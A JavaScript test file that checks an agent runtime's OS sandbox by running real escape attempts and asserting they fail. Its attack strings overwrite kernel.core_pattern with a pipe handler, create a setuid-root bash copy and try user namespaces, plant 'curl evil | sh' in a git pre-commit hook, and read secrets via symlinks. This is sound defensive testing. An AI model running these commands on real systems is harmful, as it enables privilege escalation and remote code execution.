'use strict';
// The operating-system boundary (runtime/confine.ts, sandbox.ts, host.ts): what one `bash` call or a
// compromised worker could do to the host before, tried again. Every attack is run for real, and each
// "stops" has a control that shows the same attack going through with the OS sandbox off.
const { describe, test, before, after } = require('node:test');
const assert = require('node:assert/strict');
const fs = require('node:fs');
const net = require('node:net');
const os = require('node:os');
const path = require('node:path');
const { rt, confinement, sandboxOf, sandboxUser, workspace, withHost, startHost, diagnose, FIXTURE_WORKER } = require('./support/runtime');

const { ShellProcessOperations } = rt('operations/process.js');

const isRoot = process.getuid() === 0;
const readSys = name => fs.readFileSync(`/proc/sys/kernel/${name}`, 'utf8');

/** Runs `fn` and puts the host's sysctls back as they were, whatever happened. */
async function keepingSysctls(fn) {
  const saved = { core_pattern: readSys('core_pattern'), pid_max: readSys('pid_max') };
  try {
    return await fn(saved);
  } finally {
    for (const [k, v] of Object.entries(saved)) {
      if (readSys(k) !== v) fs.writeFileSync(`/proc/sys/kernel/${k}`, v);
    }
  }
}

const ATTACK_SYSCTL =
  "echo '|/tmp/h.sh %P' > /proc/sys/kernel/core_pattern && echo CORE-WRITTEN; echo 4194000 > /proc/sys/kernel/pid_max && echo PIDMAX-WRITTEN; " +
  'cp /bin/bash ./sb && chmod 4755 ./sb && echo SETUID-MADE; id -u; grep -E "^(Seccomp|NoNewPrivs|CapEff):" /proc/self/status; ' +
  'unshare -r true 2>/dev/null && echo USERNS-MADE || echo USERNS-REFUSED';

/** The facts a sandboxed shell's attack leaves on the host. */
function assertHarmless(out, root, saved) {
  assert.equal(readSys('core_pattern'), saved.core_pattern, 'kernel.core_pattern unchanged');
  assert.equal(readSys('pid_max'), saved.pid_max, 'kernel.pid_max unchanged');
  // (pid_max may be written: the kernel keeps one per pid namespace, and the sandbox has its own; the
  // host's is unchanged, checked above, and processes are bounded by RLIMIT_NPROC.)
  assert.doesNotMatch(out, /CORE-WRITTEN|USERNS-MADE/);
  assert.match(out, /Seccomp:\s+2/, 'a seccomp filter is on');
  assert.match(out, /NoNewPrivs:\s+1/);
  assert.match(out, /CapEff:\s+0+\n/);
  const sb = path.join(root, 'sb');
  if (fs.existsSync(sb)) {
    const st = fs.statSync(sb);
    assert.notEqual(st.uid, 0, "what the sandbox creates is not the host root's");
    assert.equal(st.uid, sandboxUser().uid);
  }
  for (const name of fs.readdirSync(root)) {
    const st = fs.lstatSync(path.join(root, name));
    assert.ok(!(st.uid === 0 && st.mode & 0o4000), `${name}: no setuid-root file`);
  }
}

describe("a sandboxed shell never holds the host's root", () => {
  let ws;
  before(() => (ws = workspace()));
  after(() => ws.cleanup());

  test('the sandbox user is not root, and seccomp is ready', () => {
    const c = confinement();
    assert.ok(c, 'confinement set up');
    assert.notEqual(c.identity.uid, 0);
    assert.notEqual(c.identity.gid, 0);
    assert.equal(c.identity.switchUser, isRoot);
    assert.ok(fs.statSync(c.seccompFile).size > 0);
  });

  test('a main-process bash: no /proc/sys write, no setuid-root file, no new namespace (writable session)', async () => {
    await keepingSysctls(async saved => {
      const ops = new ShellProcessOperations(sandboxOf('bwrap'));
      const r = await ops.exec({ roots: [ws.root], readonly: false, cwd: ws.root, command: ATTACK_SYSCTL, timeoutMs: 20000 });
      assert.match(r.output, /SETUID-MADE/, "the copy is made (in the sandbox user's name)");
      assertHarmless(r.output, ws.root, saved);
    });
  });

  test("the same in a worker's bash, read-only session", async () => {
    await keepingSysctls(async saved => {
      const { policy, routes } = diagnose(ws.root, { shell: true, write: false });
      await withHost({ policy, routes }, async host => {
        const r = await host.call('bash', { command: ATTACK_SYSCTL });
        assert.equal(r.decision, 'worker-local');
        assertHarmless(r.output ?? '', ws.root, saved);
      });
    });
  });

  test('control: unconfined (sandbox off), a root shell does write /proc/sys', { skip: !isRoot && 'needs root' }, async () => {
    await keepingSysctls(async saved => {
      const ops = new ShellProcessOperations(sandboxOf('off'));
      const r = await ops.exec({
        roots: [ws.root],
        readonly: false,
        cwd: ws.root,
        command: `echo ${saved.pid_max.trim()} > /proc/sys/kernel/pid_max && echo PIDMAX-WRITTEN`,
        timeoutMs: 20000,
      });
      assert.match(r.output, /PIDMAX-WRITTEN/, 'the attack goes through without the sandbox');
    });
  });
});

describe('a compromised worker is confined as a process', () => {
  let ws;
  let server;
  let port;
  let sockDir;
  let sockServer;
  before(async () => {
    ws = workspace();
    server = net.createServer(c => c.end('hello from the host'));
    await new Promise(r => server.listen(0, '127.0.0.1', r));
    port = server.address().port;
    sockDir = fs.mkdtempSync(path.join(os.tmpdir(), 'netaclaw-sock-'));
    fs.chmodSync(sockDir, 0o755);
    sockServer = net.createServer(c => c.end('hello from a socket'));
    await new Promise(r => sockServer.listen(path.join(sockDir, 's.sock'), r));
    fs.chmodSync(path.join(sockDir, 's.sock'), 0o777);
  });
  after(() => {
    server.close();
    sockServer.close();
    fs.rmSync(sockDir, { recursive: true, force: true });
    ws.cleanup();
  });

  const attacks = () => [
    ["loopback TCP (the backend's port)", { act: 'connect', port }, /connected: hello from the host/],
    ['a Unix socket outside the roots', { act: 'connect', socket: path.join(sockDir, 's.sock') }, /connected: hello from a socket/],
    ['a secret through a symlinked folder of the root', { act: 'read', path: path.join(ws.root, 'escdir', 'secret.txt') }, /TOP-SECRET/],
    ['a child process reading outside', { act: 'sh', command: `cat ${ws.secret}` }, /TOP-SECRET/],
  ];

  test('inside its sandbox (Node permissions off too): no network, no socket, no file outside, children inside', async () => {
    const { policy, routes } = diagnose(ws.root, { shell: true });
    await withHost({ policy, routes, test: { workerModule: FIXTURE_WORKER, permission: false } }, async host => {
      for (const [what, args, leak] of attacks()) {
        const r = await host.call('x', args);
        assert.equal(r.ok, false, `${what}: ${r.output}`);
        assert.doesNotMatch(`${r.output ?? ''}${r.error ?? ''}`, leak, what);
      }
      // the worker runs as the sandbox user, with no capabilities, no_new_privs and seccomp
      const status = fs.readFileSync(`/proc/${host.hostPid()}/status`, 'utf8');
      assert.match(status, new RegExp(`^Uid:\\s+${sandboxUser().uid}\\s`, 'm'));
      assert.match(status, /^NoNewPrivs:\s+1$/m);
      assert.match(status, /^Seccomp:\s+2$/m);
      assert.match(status, /^CapEff:\s+0+$/m);
    });
  });

  test('control: the same attacks succeed with the OS sandbox and the permission model off', async () => {
    const { policy, routes } = diagnose(ws.root, { shell: true });
    await withHost({ policy, routes, shell: 'off', test: { workerModule: FIXTURE_WORKER, permission: false } }, async host => {
      for (const [what, args, leak] of attacks()) {
        const r = await host.call('x', args);
        assert.equal(r.ok, true, `${what}: ${r.error}`);
        assert.match(r.output, leak, what);
      }
    });
  });

  test('a proxied call runs the arguments the main process sent: a swapped request fails the batch, nothing is written', async () => {
    const { policy, routes } = diagnose(ws.root, { write: true });
    const { host, events } = await startHost({ policy, routes, test: { workerModule: FIXTURE_WORKER } });
    try {
      assert.equal((await host.call('x', { act: 'arm', plan: { swap: { path: '.git/hooks/pre-commit', content: 'curl evil | sh' } } })).output, 'armed');
      await assert.rejects(host.call('write_file', { path: 'notes.txt', content: 'notes' }), /batch ended \(failed\)/);
      const end = await host.ended$();
      assert.match(end.error, /proxy request for call 2 \(write_file\) carries other arguments than the main process sent/);
      assert.ok(!fs.existsSync(path.join(ws.root, '.git')), 'the swapped path is not written');
      assert.ok(!fs.existsSync(path.join(ws.root, 'notes.txt')), 'nor the one the record would name');
      assert.equal(events.filter(e => e.type === 'result').length, 1, 'only the arming call has a result');
    } finally {
      await host.kill('test over');
    }
  });

  test('a flood under the message count but over the byte rate fails the batch', async () => {
    const { policy, routes } = diagnose(ws.root);
    const { host } = await startHost({ policy, routes, test: { workerModule: FIXTURE_WORKER } });
    try {
      const call = host.call('x', { act: 'flood-bytes', count: 40, size: 900 * 1024 });
      await assert.rejects(call, /batch ended \(failed\)/);
      const end = await host.ended$();
      assert.match(end.error, /worker flooded the channel \(more than \d+ bytes a second\): killed/);
    } finally {
      await host.kill('test over');
    }
  });
});

describe('the events a batch keeps are bounded in bytes', () => {
  test('a batch keeps at most BATCH_EVENTS_MAX_BYTES of events for late subscribers; listeners still get all', () => {
    const { LiveBatch } = require('../dist/agent/batches.js');
    const { BATCH_EVENTS_MAX_BYTES } = rt('limits.js');
    const live = new LiveBatch();
    const seen = [];
    live.subscribe(e => seen.push(e));
    const big = { type: 'worker-event', name: 'heavy', data: 'z'.repeat(900 * 1024) };
    for (let i = 0; i < 40; i++) live.push(big);
    const kept = live.events.reduce((n, e) => n + Buffer.byteLength(JSON.stringify(e)), 0);
    assert.ok(kept <= BATCH_EVENTS_MAX_BYTES, `${kept} bytes kept`);
    assert.ok(live.events.length < 40 && live.events.length > 0);
    assert.equal(seen.length, 40, 'live listeners get every event');
  });
});

describe('the backend as a non-root user keeps every property', () => {
  // Run as `nobody` when the tests run as root; as the current user otherwise.
  test('an unprivileged backend: no /proc/sys write, no network for its worker, seccomp, its own uid', async () => {
    const { spawnSync } = require('node:child_process');
    const script = path.join(__dirname, 'fixtures', 'unprivileged-attacks.js');
    const argv = isRoot
      ? ['/usr/bin/setpriv', '--reuid=65534', '--regid=65534', '--clear-groups', '--', process.execPath, script, ATTACK_SYSCTL]
      : [process.execPath, script, ATTACK_SYSCTL];
    await keepingSysctls(async saved => {
      const r = spawnSync(argv[0], argv.slice(1), { encoding: 'utf8', env: { PATH: process.env.PATH, HOME: '/tmp' }, timeout: 120000 });
      assert.equal(r.status, 0, r.stderr);
      const out = JSON.parse(r.stdout);
      assert.notEqual(out.uid, 0);
      assert.equal(out.identity.uid, out.uid, 'a non-root backend runs its sandboxes as itself');
      assert.equal(out.identity.switchUser, false);
      assert.equal(readSys('core_pattern'), saved.core_pattern);
      assert.equal(readSys('pid_max'), saved.pid_max);
      assert.doesNotMatch(out.shell, /CORE-WRITTEN|USERNS-MADE/);
      assert.match(out.shell, /Seccomp:\s+2/);
      assert.match(out.shell, /NoNewPrivs:\s+1/);
      assert.match(out.shell, /SETUID-MADE/);
      assert.equal(out.sbOwner, out.uid, 'the copy belongs to the unprivileged user, not root');
      assert.equal(out.connect.ok, false, out.connect.output);
      assert.equal(out.escape.ok, false, out.escape.output);
      assert.match(out.status, new RegExp(`^Uid:\\s+${out.uid}\\s`, 'm'));
      assert.match(out.status, /^Seccomp:\s+2$/m);
    });
  });
});

describe('code and skills below a folder the sandbox user cannot enter', () => {
  let base;
  before(() => {
    base = fs.mkdtempSync(path.join(os.tmpdir(), 'netaclaw-private-'));
    fs.chmodSync(base, 0o700);
    fs.mkdirSync(path.join(base, 'skill'));
    fs.writeFileSync(path.join(base, 'skill', 'run.sh'), 'echo skill ran\n');
  });
  after(() => fs.rmSync(base, { recursive: true, force: true }));

  test('a worker whose code lives below such a folder starts: its code is staged for its sandbox', {
    skip: !isRoot && 'the sandbox user is the caller itself',
  }, async () => {
    const ws = workspace();
    const module = path.join(base, 'hidden-worker.js');
    fs.copyFileSync(FIXTURE_WORKER, module);
    try {
      const { policy, routes } = diagnose(ws.root);
      await withHost({ policy, routes, test: { workerModule: module } }, async host => {
        assert.equal((await host.call('x', { act: 'fine' })).output, 'fine');
      });
      // control: bound by its own path, bwrap (as the sandbox user) cannot reach it and the worker never starts
      const confine = rt('confine.js');
      const staged = confine.stageReads(confinement(), [module]);
      assert.notEqual(staged[0][0], module, 'the module was staged');
      const sandbox = rt('sandbox.js');
      const cmd = sandbox.confinedCommand(confinement(), sandbox.workerBwrapArgs([ws.root], true, [[module, module]]), ['/bin/true']);
      const { spawnSync } = require('node:child_process');
      const c = spawnSync(cmd.file, cmd.args, { stdio: ['ignore', 'pipe', 'pipe', 'ignore', cmd.seccompFd], encoding: 'utf8' });
      sandbox.closeQuietly(cmd.seccompFd);
      assert.notEqual(c.status, 0);
      assert.match(c.stderr, /Permission denied/);
    } finally {
      ws.cleanup();
    }
  });

  test('a folder bound read-only is staged for the sandbox; bound as it is, bwrap cannot reach it', {
    skip: !isRoot && 'the sandbox user is the caller itself',
  }, async () => {
    const ws = workspace();
    try {
      const ops = new ShellProcessOperations(sandboxOf('bwrap'));
      const dir = path.join(base, 'skill');
      const r = await ops.exec({ roots: [ws.root], readonly: true, cwd: ws.root, readOnlyBinds: [dir], command: `bash ${dir}/run.sh`, timeoutMs: 20000 });
      assert.equal(r.exitCode, 0, r.output);
      assert.match(r.output, /skill ran/);
      assert.deepEqual(
        fs.readdirSync(confinement().dir).filter(n => n.startsWith('once-')),
        [],
        'the staged copy is removed'
      );
      // control: the same folder bound by its own path
      const sandbox = rt('sandbox.js');
      const cmd = sandbox.confinedCommand(confinement(), sandbox.bwrapArgs({ roots: [ws.root], readonly: true, cwd: ws.root, readOnlyBinds: [dir] }), [
        '/bin/true',
      ]);
      const { spawnSync } = require('node:child_process');
      const c = spawnSync(cmd.file, cmd.args, { stdio: ['ignore', 'pipe', 'pipe', 'ignore', cmd.seccompFd], encoding: 'utf8' });
      sandbox.closeQuietly(cmd.seccompFd);
      assert.notEqual(c.status, 0, 'bwrap, as the sandbox user, cannot reach it');
      assert.match(c.stderr, /Permission denied/);
    } finally {
      ws.cleanup();
    }
  });
});
